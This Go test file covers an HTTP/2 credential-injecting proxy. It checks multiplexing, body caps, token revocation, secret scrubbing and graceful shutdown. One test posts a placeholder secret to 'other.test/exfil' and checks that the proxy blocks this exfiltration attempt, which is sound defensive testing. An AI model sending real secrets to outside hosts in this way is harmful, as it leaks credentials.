package proxy

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/agent-vault/agent-vault/host/domain"
	"github.com/agent-vault/agent-vault/host/scrub"
)

// h2Services: api.test is an HTTP/1.1-only upstream, h2.api.test one that
// offers h2 by ALPN.
func h2Services() []domain.Service {
	bearer := domain.Auth{Type: domain.AuthBearer, Token: "TOKEN"}
	return []domain.Service{
		{Name: "h1up", Host: "api.test", Auth: bearer},
		{Name: "h2up", Host: "h2.api.test", Auth: bearer},
		{Name: "grpc", Host: "grpc.api.test", Auth: bearer},
		{Name: "grpc-custom", Host: "grpc.api.test/grpc.testing.TestService/StreamingInputCall",
			Auth: domain.Auth{Type: domain.AuthCustom, Headers: map[string]string{"X-Api-Key": "{{ KEY }}"}}},
	}
}

// h2Env is the test environment plus an upstream at h2.api.test:443 that
// speaks HTTP/2 and HTTP/1.1, serving the same routes, and counts the
// connections it accepted.
type h2Env struct {
	*env
	h2up    *httptest.Server
	upConns atomic.Int32
}

func newH2Env(t testing.TB, opts ...envOption) *h2Env {
	return newH2EnvServices(t, h2Services(), opts...)
}

func newH2EnvServices(t testing.TB, services []domain.Service, opts ...envOption) *h2Env {
	e := &h2Env{env: newEnv(t, services, opts...)}
	e.h2up = httptest.NewUnstartedServer(e.mux)
	leaf, err := e.upCA.leaf("h2.api.test", "grpc.api.test")
	if err != nil {
		t.Fatal(err)
	}
	e.h2up.TLS = &tls.Config{Certificates: []tls.Certificate{*leaf}}
	e.h2up.EnableHTTP2 = true
	e.h2up.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			e.upConns.Add(1)
		}
	}
	e.h2up.StartTLS()
	t.Cleanup(e.h2up.Close)
	e.route("h2.api.test:443", e.h2up.Listener.Addr().String())
	return e
}

func (e *env) route(name, addr string) {
	e.dial.mu.Lock()
	e.dial.routes[name] = addr
	e.dial.mu.Unlock()
}

// h2Client is e.client speaking HTTP/2 inside the tunnel when the proxy
// offers it; dials counts its connections to the proxy.
func (e *env) h2Client(userinfo string, dials *atomic.Int32) *http.Client {
	c := e.client(userinfo)
	tr := c.Transport.(*http.Transport)
	tr.ForceAttemptHTTP2 = true
	tr.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
		if dials != nil {
			dials.Add(1)
		}
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}
	return c
}

// TestH2ClientAndUpstreamIndependently sends the same requests with each
// client protocol to an HTTP/1.1 and an HTTP/2 upstream: each side speaks
// its own protocol, and injection, the host pin, hop-by-hop hygiene and
// the log hold on every combination.
func TestH2ClientAndUpstreamIndependently(t *testing.T) {
	e := newH2Env(t)
	n := 0
	for _, client := range []string{"HTTP/1.1", "HTTP/2.0"} {
		c := e.client("tok1:main")
		if client == "HTTP/2.0" {
			c = e.h2Client("tok1:main", nil)
		}
		for _, up := range []struct{ host, proto string }{{"api.test", "HTTP/1.1"}, {"h2.api.test", "HTTP/2.0"}} {
			for _, body := range []struct {
				name string
				size int
			}{{"get", 0}, {"small-post", 100}, {"large-post", maxInlineBody + 1}} {
				t.Run(client+"/"+up.host+"/"+body.name, func(t *testing.T) {
					method := "GET"
					var rd io.Reader
					if body.size > 0 {
						method, rd = "POST", strings.NewReader(strings.Repeat("b", body.size))
					}
					req, _ := http.NewRequest(method, "https://"+up.host+"/v1/x?q=1", rd)
					req.Header.Set("Authorization", "Bearer agent-fake")
					resp, err := c.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					if resp.Proto != client {
						t.Fatalf("client spoke %s, want %s", resp.Proto, client)
					}
					// An HTTP/2 upstream sends no Connection header, so only
					// an HTTP/1.1 one can name a hop-by-hop header.
					if up.proto == "HTTP/1.1" && resp.Header.Get("X-Hop-Response") != "" || resp.Header.Get("Set-Cookie") != "" ||
						resp.Header.Get("Connection") != "" {
						t.Fatalf("hop-by-hop or cookie header reached the client: %v", resp.Header)
					}
					got := decodeEcho(t, resp)
					if got.Proto != up.proto || got.Host != up.host || got.Raw != "/v1/x?q=1" || len(got.Body) != body.size {
						t.Fatalf("upstream saw %s host %q uri %q body %d, want %s", got.Proto, got.Host, got.Raw, len(got.Body), up.proto)
					}
					if v := got.Header.Values("Authorization"); len(v) != 1 || v[0] != "Bearer sk_live_TOKENVALUE" {
						t.Fatalf("upstream Authorization %q", v)
					}
					if got.Header.Get("Proxy-Authorization") != "" {
						t.Fatal("Proxy-Authorization reached the upstream")
					}
					ev := e.log.next(t, n)
					n++
					if ev.Status != 200 || ev.Host != up.host || ev.Path != "/v1/x" || fmt.Sprint(ev.Keys) != "[TOKEN]" || ev.Method != method {
						t.Fatalf("event %+v", ev)
					}
				})
			}
		}
	}
}

// TestH2Multiplexes sends 16 streams at once over one client connection to
// an HTTP/2 upstream: one connection each side carries them all.
func TestH2Multiplexes(t *testing.T) {
	e := newH2Env(t)
	var dials atomic.Int32
	c := e.h2Client("tok1:main", &dials)
	const streams, each = 16, 8
	// One request first: a client dials once per request until it knows
	// the connection speaks HTTP/2.
	resp, err := c.Get("https://h2.api.test/m")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var wg sync.WaitGroup
	errs := make(chan error, streams)
	for range streams {
		wg.Go(func() {
			for range each {
				resp, err := c.Get("https://h2.api.test/m")
				if err != nil {
					errs <- err
					return
				}
				b, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if resp.StatusCode != 200 || resp.ProtoMajor != 2 || len(b) == 0 {
					errs <- fmt.Errorf("status %d proto %s", resp.StatusCode, resp.Proto)
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if d, u := dials.Load(), e.upConns.Load(); d != 1 || u != 1 {
		t.Fatalf("%d client connections and %d upstream connections for %d requests, want 1 and 1", d, u, streams*each+1)
	}
	e.log.next(t, streams*each) // events follow their responses
	if got := len(e.log.all()); got != streams*each+1 {
		t.Fatalf("%d log events, want %d", got, streams*each+1)
	}
}

// TestH2PerStreamLimits: the request and response caps, the disabled and
// denied checks and the revoked-token check answer per stream, and the
// connection keeps serving other streams.
func TestH2PerStreamLimits(t *testing.T) {
	e := newH2Env(t, func(c *Config) { c.MaxRequestBody = 1000; c.MaxResponseBody = 4000 })
	e.mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte(strings.Repeat("x", 5000)))
	})
	c := e.h2Client("tok1:main", nil)
	post := func(n int) (*http.Response, error) {
		return c.Post("https://h2.api.test/up", "text/plain", io.MultiReader(strings.NewReader(strings.Repeat("a", n))))
	}
	resp, err := post(1001)
	if err != nil {
		t.Fatal(err)
	}
	if b := errorOf(t, resp); resp.StatusCode != http.StatusRequestEntityTooLarge || b.Error != CodeBodyTooLarge {
		t.Fatalf("oversized upload: %d %+v", resp.StatusCode, b)
	}
	resp, err = c.Get("https://h2.api.test/big")
	if err == nil {
		_, err = io.ReadAll(resp.Body)
		resp.Body.Close()
	}
	if err == nil {
		t.Fatal("a response over the cap was passed off as complete")
	}
	resp, err = post(1000)
	if err != nil {
		t.Fatal(err)
	}
	if got := decodeEcho(t, resp); len(got.Body) != 1000 || got.Proto != "HTTP/2.0" {
		t.Fatalf("upload within the cap: body %d via %s", len(got.Body), got.Proto)
	}
}

// TestH2TunnelTokenRevoked: a token that stops passing is refused on the
// next stream of an open HTTP/2 connection.
func TestH2TunnelTokenRevoked(t *testing.T) {
	var auth revocableAuth
	auth.ok.Store(true)
	e := newH2Env(t, func(c *Config) { auth.Authenticator = c.Auth; c.Auth = &auth })
	c := e.h2Client("tok1:main", nil)
	resp, err := c.Get("https://h2.api.test/a")
	if err != nil || resp.StatusCode != 200 || resp.ProtoMajor != 2 {
		t.Fatalf("%v %v", resp, err)
	}
	resp.Body.Close()
	auth.ok.Store(false)
	resp, err = c.Get("https://h2.api.test/b")
	if err != nil {
		t.Fatal(err)
	}
	if b := errorOf(t, resp); resp.StatusCode != http.StatusProxyAuthRequired || resp.ProtoMajor != 2 {
		t.Fatalf("after revocation: %d %+v", resp.StatusCode, b)
	}
}

// revocableAuth fails every authentication once ok is false.
type revocableAuth struct {
	Authenticator
	ok atomic.Bool
}

func (a *revocableAuth) AuthenticateProxy(ctx context.Context, token, vault string) (Principal, error) {
	if !a.ok.Load() {
		return Principal{}, domain.Errorf(domain.CodeUnauthorized, "revoked")
	}
	return a.Authenticator.AuthenticateProxy(ctx, token, vault)
}

// TestH2ScrubAndEgress: a reflected credential is scrubbed from an HTTP/2
// response, and a known secret bound for another host is refused, per
// stream.
func TestH2ScrubAndEgress(t *testing.T) {
	e := newH2Env(t)
	var vals []scrub.Value
	for k, v := range secrets {
		vault, key, _ := strings.Cut(k, "/")
		vals = append(vals, scrub.Value{Owner: scrub.Owner{Vault: vault, Key: key}, Value: v})
	}
	e.vaults.mu.Lock()
	vc := e.vaults.m["v1"]
	vc.Egress = scrub.NewSet(vals)
	e.vaults.m["v1"] = vc
	e.vaults.mu.Unlock()
	e.mux.HandleFunc("/reflect", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "you sent "+r.Header.Get("Authorization"))
	})
	c := e.h2Client("tok1:main", nil)
	resp, err := c.Get("https://h2.api.test/reflect")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.ProtoMajor != 2 || strings.Contains(string(b), "sk_live_TOKENVALUE") || !strings.HasPrefix(string(b), "you sent Bearer ") {
		t.Fatalf("reflected over %s: %q", resp.Proto, b)
	}
	e.route("other.test:443", e.h2up.Listener.Addr().String())
	req, _ := http.NewRequest("POST", "https://other.test/exfil", strings.NewReader("key=sk_live_TOKENVALUE"))
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if body := errorOf(t, resp); resp.StatusCode != http.StatusForbidden || body.Error != domain.CodeSecretEgressBlocked {
		t.Fatalf("exfiltration over HTTP/2: %d %+v", resp.StatusCode, body)
	}
}

// TestH2Shutdown: shutting the proxy down sends GOAWAY and waits for the
// streams in flight.
func TestH2Shutdown(t *testing.T) {
	e := newH2Env(t)
	release := make(chan struct{})
	started := make(chan struct{})
	e.mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) {
		close(started)
		<-release
		io.WriteString(w, "done")
	})
	c := e.h2Client("tok1:main", nil)
	got := make(chan string, 1)
	go func() {
		resp, err := c.Get("https://h2.api.test/slow")
		if err != nil {
			got <- err.Error()
			return
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		got <- string(b)
	}()
	<-started
	done := make(chan error, 1)
	go func() { done <- e.proxy.Shutdown(context.Background()) }()
	select {
	case err := <-done:
		t.Fatalf("Shutdown returned (%v) with a stream in flight", err)
	default:
	}
	close(release)
	if b := <-got; b != "done" {
		t.Fatalf("the stream in flight got %q", b)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// Interface guards
var _ Authenticator = (*revocableAuth)(nil)

// TestH2StreamsPromptly: an event stream reaches an HTTP/2 client event by
// event, from either upstream protocol: the first event arrives while the
// upstream still holds the second back.
func TestH2StreamsPromptly(t *testing.T) {
	e := newH2Env(t)
	release := make(chan struct{})
	e.mux.HandleFunc("/events", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(w, "data: first\n\n")
		w.(http.Flusher).Flush()
		select {
		case <-release:
		case <-r.Context().Done():
			return
		case <-time.After(20 * time.Second): // a failed test must not hang its cleanup
			return
		}
		io.WriteString(w, "data: second\n\n")
	})
	c := e.h2Client("tok1:main", nil)
	for _, host := range []string{"api.test", "h2.api.test"} {
		t.Run(host, func(t *testing.T) {
			resp, err := c.Get("https://" + host + "/events")
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			br := bufio.NewReader(resp.Body)
			first := make(chan string, 1)
			go func() {
				line, _ := br.ReadString('\n')
				first <- line
			}()
			select {
			case line := <-first:
				if line != "data: first\n" || resp.ProtoMajor != 2 {
					t.Fatalf("first event over %s: %q", resp.Proto, line)
				}
			case <-time.After(10 * time.Second):
				resp.Body.Close()
				t.Fatal("the first event was held back until the stream's end")
			}
			release <- struct{}{}
			rest, err := io.ReadAll(br)
			if err != nil || string(rest) != "\ndata: second\n\n" {
				t.Fatalf("rest %q %v", rest, err)
			}
		})
	}
}
